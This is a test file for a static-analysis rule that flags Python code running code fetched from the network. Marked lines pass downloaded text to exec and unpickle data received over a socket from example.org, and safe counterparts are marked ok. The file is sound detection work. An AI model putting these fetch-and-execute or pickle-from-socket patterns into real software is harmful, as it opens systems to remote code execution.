import json
import pickle
import socket
from urllib.request import urlopen

import requests

# ruleid: python.code-from-network
exec(requests.get("https://example.org/plugin.py", timeout=5).text)
code = urlopen("https://example.org/plugin.py").read()
# ruleid: python.code-from-network
exec(code)
connection = socket.create_connection(("example.org", 9000))
# ruleid: python.code-from-network
task = pickle.loads(connection.recv(4096))
# ok: python.code-from-network
data = json.loads(requests.get("https://example.org/data.json", timeout=5).text)
text = requests.get("https://example.org/plugin.py", timeout=5).text
# ok: python.code-from-network
print(text)
# ok: python.code-from-network
exec("print(1)")
